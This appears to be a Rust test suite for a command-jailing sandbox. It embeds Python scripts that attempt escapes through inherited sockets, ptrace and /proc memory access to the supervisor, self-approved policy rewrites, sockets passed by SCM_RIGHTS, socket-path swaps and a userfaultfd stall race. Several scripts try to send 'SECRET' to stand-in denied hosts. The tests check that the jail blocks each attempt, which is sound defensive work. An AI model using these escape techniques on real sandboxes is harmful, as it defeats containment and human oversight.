//! What a jailed command would do with help: of a service outside, of a page that nobody fills, of what
//! its caller left open.

use test_support::bed::{Bed, unique};
use test_support::harness::Test;

use crate::arrivals::arrived;
use crate::jail::{
    CALLERS, Outside, PROGRAM, ROOT, SUPERVISED_ROOT, SUPERVISED_USER, WITHOUT_LANDLOCK,
};

pub(crate) const TESTS: &[Test] = &[
    ("inherited_sockets_are_closed_or_refused", inherited),
    ("filter_and_jail_are_out_of_its_reach", processes),
    ("its_policy_stays_what_it_was_at_the_start", policy),
    ("a_socket_that_was_handed_over_connects_nowhere", handed),
    ("another_socket_at_an_allowed_path_is_shut", swapped),
    ("who_stalls_its_supervisor_opens_nothing", stalled),
    (
        "who_stalls_all_of_its_supervisor_harms_itself_alone",
        stalled_wholly,
    ),
];

fn file(bed: &Bed, script: &str) -> String {
    let file = format!("/tmp/{}.py", unique("script"));
    std::fs::write(bed.inside(&file), script).unwrap();
    file
}

fn inherited(bed: &Bed) {
    let look = "ls -l /proc/self/fd | grep -c socket; echo through >&8";
    let start = |number: &str, line: &[&str]| {
        let script = format!(
            "
import os, socket, subprocess, sys
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
os.dup2(one.fileno(), {number}, inheritable=True)
pipe = os.pipe()
os.dup2(pipe[1], 8, inheritable=True)
done = subprocess.run({line:?}, close_fds=False, stdout=subprocess.PIPE)
os.write(pipe[1], b'.')
sys.stdout.write(done.stdout.decode() + os.read(pipe[0], 99).decode() + str(done.returncode))
"
        );
        bed.exec(&["python3", "-c", &script])
    };
    for caller in CALLERS {
        let log = format!("/tmp/{}.jsonl", unique("inherited"));
        let line = caller.line(&["--log", &log], look);
        let closed = start("7", &line);
        assert_eq!(
            closed.stdout, "0\nthrough\n.0",
            "{}: {closed:?}",
            caller.name
        );
        let refused = start("0", &line);
        assert_eq!(refused.stdout, ".1", "{}: {refused:?}", caller.name);
        assert!(refused.stderr.contains("standard"), "{refused:?}");
    }
    let bare = start("7", &["sh", "-c", look]);
    assert_eq!(bare.stdout, "1\nthrough\n.0", "without a jail: {bare:?}");
}

fn processes(bed: &Bed) {
    // Everybody outside of the jail that runs as the same user, the jail and its filter among them.
    let script = "
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
tried = reached = 0
for path in glob.glob('/proc/[0-9]*'):
    pid = int(path.split('/')[2])
    try:
        name = open(path + '/comm').read().strip()
    except OSError:
        continue
    if name not in ('boundary-filter', 'boundary-shim'):
        continue
    tried += 1
    if libc.ptrace(0x4206, pid, 0, 0) == 0:
        reached += 1
    for file, how in (('mem', os.O_RDONLY), ('mem', os.O_RDWR), ('environ', os.O_RDONLY), ('root/etc', os.O_RDONLY),
                      ('fd/0', os.O_RDONLY | os.O_NONBLOCK), ('ns/net', os.O_RDONLY)):
        try:
            # The kernel asks for rights when some are opened, when others are read.
            os.read(os.open(path + '/' + file, how), 1) if file == 'environ' else os.open(path + '/' + file, how)
            reached += 1
        except OSError:
            pass
    handle = libc.syscall(434, pid, 0)
    for number in range(40):
        if libc.syscall(438, handle, number, 0) >= 0:
            reached += 1
print('reached', reached, 'of', tried)
";
    let command = format!("python3 {}", file(bed, script));
    for caller in CALLERS {
        let prefixes: &[&str] = if caller.supervised {
            &["", WITHOUT_LANDLOCK]
        } else {
            &[""]
        };
        for prefix in prefixes {
            let jailed = caller.run_by(bed, prefix, &[], &command);
            let said = jailed.answer.stdout.trim();
            let (reached, tried) = said
                .split_once(" of ")
                .unwrap_or_else(|| panic!("{jailed:?}"));
            assert_eq!(reached, "reached 0", "{} {prefix}: {said}", caller.name);
            let tried: u32 = tried.parse().unwrap();
            assert!(tried >= 2, "{} {prefix}: {said}", caller.name);
        }
    }
    // Outside of every jail, as root, those of a jail are there to be reached.
    let jail = format!(
        "
import subprocess, sys
jail = subprocess.Popen(['{PROGRAM}', 'jail', '--log', '/tmp/reached.jsonl', '--', 'sh', '-c', 'echo up; sleep 60'],
    stdout=subprocess.PIPE)
jail.stdout.readline()
print('ready', flush=True)
sys.stdin.read()
jail.kill()
jail.wait()
"
    );
    let jail = Outside::serve(bed, &["-c", &jail]);
    let bare = ROOT.run_unjailed(bed, &command);
    assert!(
        bare.stdout.starts_with("reached ") && !bare.stdout.starts_with("reached 0 "),
        "{bare:?}"
    );
    drop(jail);
}

/// Its policy's file is its caller's, and so its own.
fn policy(bed: &Bed) {
    const TARGET: &str = "203.0.113.78:8080";
    for caller in CALLERS {
        let file = format!("/tmp/{}.yaml", unique("policy"));
        let holds =
            |rule: &str| format!("printf 'allow:\\n- {rule}\\n' > {file} && chmod 644 {file}");
        let send = format!("attacker send tcp {TARGET} MORE");
        let jailed = |script: &str| caller.run(bed, &["--policy", &file], script);
        caller
            .run_unjailed(bed, &holds("domain=allowed.test"))
            .must_succeed();
        let rewrite = format!(
            "{send}; {}
             boundary-shim policy reload; boundary-shim policy apply {file}
             for id in $(boundary-shim policy pending | cut -d ' ' -f 1); do boundary-shim policy approve $id; done
             {send}; echo rewritten",
            holds("cidr=203.0.113.78/32 port=8080")
        );
        let meanwhile = arrived(bed, &[TARGET], || {
            let said = jailed(&rewrite).answer;
            assert!(
                said.stdout.contains("rewritten"),
                "{}: {said:?}",
                caller.name
            );
        });
        assert_eq!(meanwhile, 0, "{}", caller.name);
        let from_then_on = arrived(bed, &[TARGET], || drop(jailed(&send)));
        assert_ne!(from_then_on, 0, "{}: the next jail's", caller.name);
    }
}

/// A service outside makes a socket, of which the supervisor knows nothing.
fn handed(bed: &Bed) {
    let path = format!("/tmp/{}", unique("service"));
    let serve = format!(
        "
import array, os, socket, sys, threading
server = socket.socket(socket.AF_UNIX)
server.bind('{path}')
os.chmod('{path}', 0o777)
server.listen()
def serve():
    while True:
        peer, _ = server.accept()
        fresh = socket.socket()
        peer.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [fresh.fileno()]))])
threading.Thread(target=serve, daemon=True).start()
print('ready', flush=True)
sys.stdin.read()
"
    );
    let denied = "203.0.113.205:8080";
    let take = file(
        bed,
        &format!(
            "
import socket
service = socket.socket(socket.AF_UNIX)
service.connect('{path}')
_, [number], _, _ = socket.recv_fds(service, 1, 1)
handed = socket.socket(fileno=number)
try:
    handed.connect(('203.0.113.205', 8080))
    handed.send(b'SECRET')
    print('sent')
except OSError as error:
    print('shut', error.errno)
"
        ),
    );
    let server = Outside::serve(bed, &["-c", &serve]);
    let command = format!("python3 {take}");
    for caller in [SUPERVISED_ROOT, SUPERVISED_USER] {
        for prefix in ["", WITHOUT_LANDLOCK] {
            let lost = arrived(bed, &[denied], || {
                let jailed = caller.run_by(bed, prefix, &["--allow-socket", &path], &command);
                assert_eq!(
                    jailed.answer.stdout, "shut 13\n",
                    "{}: {jailed:?}",
                    caller.name
                );
            });
            assert_eq!(lost, 0, "{} {prefix}", caller.name);
        }
    }
    let lost = arrived(bed, &[denied], || {
        let bare = SUPERVISED_USER.run_unjailed(bed, &command);
        assert_eq!(bare.stdout, "sent\n", "{bare:?}");
    });
    assert_eq!(lost, 1, "without a jail");
    drop(server);
    std::fs::remove_file(bed.inside(&path)).unwrap();
}

/// An engine's socket is put where the sockets of an agent are open: all of them its user's own.
fn swapped(bed: &Bed) {
    let serve = file(
        bed,
        "
import os, socket, subprocess, sys, tempfile, threading
os.chdir(tempfile.mkdtemp())
def serve(server, name):
    while True:
        peer, _ = server.accept()
        peer.send(name)
        peer.close()
for folder in ('engine', 'symlink', 'folder', 'link', 'rename'):
    os.mkdir(folder)
    server = socket.socket(socket.AF_UNIX)
    server.bind(folder + '/s')
    server.listen()
    name = b'engine' if folder == 'engine' else b'agent'
    threading.Thread(target=serve, args=(server, name), daemon=True).start()
subprocess.run(sys.argv[1:])
",
    );
    let swap = file(
        bed,
        "
import os, socket
def ask(path):
    asking = socket.socket(socket.AF_UNIX)
    try:
        asking.connect(path)
        return asking.recv(9).decode()
    except OSError as error:
        return 'shut ' + str(error.errno)
def by(way, *steps):
    path = way + '/s'
    first = ask(path)
    for step in steps: step()
    print(way, first, ask(path), sep=', ')
print(ask('engine/s'))
by('symlink', lambda: os.unlink('symlink/s'), lambda: os.symlink('../engine/s', 'symlink/s'))
by('folder', lambda: os.rename('folder', 'moved'), lambda: os.symlink('engine', 'folder'))
by('link', lambda: os.unlink('link/s'), lambda: os.link('engine/s', 'link/s'))
by('rename', lambda: os.rename('engine/s', 'rename/s'))
print(ask('moved/s'))
",
    );
    let (prefix, command) = (format!("python3 {serve} "), format!("python3 {swap}"));
    let said = |engine: &str| {
        let ways = ["symlink", "folder", "link", "rename"];
        let lines = ways.map(|way| format!("{way}, agent, {engine}\n"));
        format!("{engine}\n{}agent\n", lines.concat())
    };
    let named = ["symlink/s", "folder/s", "link/s", "rename/s", "missing"];
    let options: Vec<&str> = named
        .into_iter()
        .flat_map(|path| ["--allow-socket", path])
        .collect();
    for caller in CALLERS {
        let jailed = caller.run_by(bed, &prefix, &options, &command);
        assert_eq!(
            jailed.answer.stdout,
            said("shut 13"),
            "{}: {jailed:?}",
            caller.name
        );
        let warned = jailed.answer.stderr.contains("missing opens nothing: ");
        assert!(warned, "{}: {jailed:?}", caller.name);
        let bare = caller.run_unjailed(bed, &format!("{prefix}{command}"));
        assert_eq!(bare.stdout, said("engine"), "without a jail: {bare:?}");
    }
}

/// Has calls wait for an address in a page that a thread of its own fills, and not before it is told to
/// (userfaultfd(2)): with what is denied. Words: how many calls, how many of them have to wait.
const STALL: &str = "
import ctypes, fcntl, os, select, socket, struct, subprocess, sys, threading
calls, waiting = int(sys.argv[1]), int(sys.argv[2])
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
device = os.open('/dev/userfaultfd', os.O_RDWR)
faults = fcntl.ioctl(device, 0xaa00, os.O_CLOEXEC)
fcntl.ioctl(faults, 0xc018aa3f, struct.pack('QQQ', 0xaa, 0, 0))
page = libc.mmap(None, 4096, 3, 0x22, -1, 0)
fcntl.ioctl(faults, 0xc020aa00, struct.pack('QQQQ', page, 4096, 1, 0))
sockets = [socket.socket() for _ in range(calls)]
def call(one):
    if libc.connect(one.fileno(), ctypes.c_void_p(page), 16) == 0:
        one.send(b'SECRET')
threads = [threading.Thread(target=call, args=(one,), daemon=True) for one in sockets]
for thread in threads: thread.start()
for _ in range(waiting): os.read(faults, 32)
print('stalled', flush=True)
def fill():
    denied = ctypes.create_string_buffer(struct.pack('=H', 2) + struct.pack('!H', 8080) + socket.inet_aton('203.0.113.206'), 4096)
    fcntl.ioctl(faults, 0xc028aa03, struct.pack('QQQQq', page, ctypes.addressof(denied), 4096, 0, 0))
    for thread in threads: thread.join()
";

/// What it reads may take for ever: others of its calls are answered meanwhile, and what it reads at
/// last is what it judges.
fn stalled(bed: &Bed) {
    let script = file(
        bed,
        &format!(
            "{STALL}
print(subprocess.run(['curl', '-sS', '-m', '5', 'http://allowed.test/'], stdout=subprocess.PIPE).stdout.decode())
fill()
print('filled')
"
        ),
    );
    let denied = "203.0.113.206:8080";
    let command = format!("python3 {script} 40 40");
    for prefix in ["", WITHOUT_LANDLOCK] {
        let lost = arrived(bed, &[denied], || {
            let allow = ["--allow", "domain=allowed.test"];
            let jailed = SUPERVISED_ROOT.run_by(bed, prefix, &allow, &command);
            let said = &jailed.answer.stdout;
            assert!(
                said.starts_with("stalled\nI am allowed.test") && said.ends_with("filled\n"),
                "{jailed:?}"
            );
        });
        assert_eq!(lost, 0, "{prefix}");
    }
    let lost = arrived(bed, &[denied], || {
        ROOT.run_unjailed(bed, &command).must_succeed();
    });
    assert_eq!(lost, 40, "without a jail");
}

/// More calls than a supervisor has threads: other jails work on, and this one ends when it is to.
fn stalled_wholly(bed: &Bed) {
    let script = file(bed, &format!("{STALL}\nsys.stdin.read()\nos._exit(7)\n"));
    let (told, say) = (unique("/tmp/told"), unique("/tmp/say"));
    let jail = "boundary-shim jail --jail-type notify --allow domain=allowed.test --log";
    let both = format!(
        "mkfifo {told} {say}
         {jail} /tmp/stalled.jsonl -- python3 {script} 100 60 <{say} >{told} & exec 9>{say}
         read first <{told}; echo $first
         {jail} /tmp/other.jsonl -- curl -sS -m 5 http://allowed.test/
         exec 9>&-; wait $!; echo $?"
    );
    let answer = bed.exec(&["bash", "-c", &both]);
    let said = &answer.stdout;
    assert!(
        said.starts_with("stalled\nI am allowed.test") && said.ends_with("\n7\n"),
        "{answer:?}"
    );
}
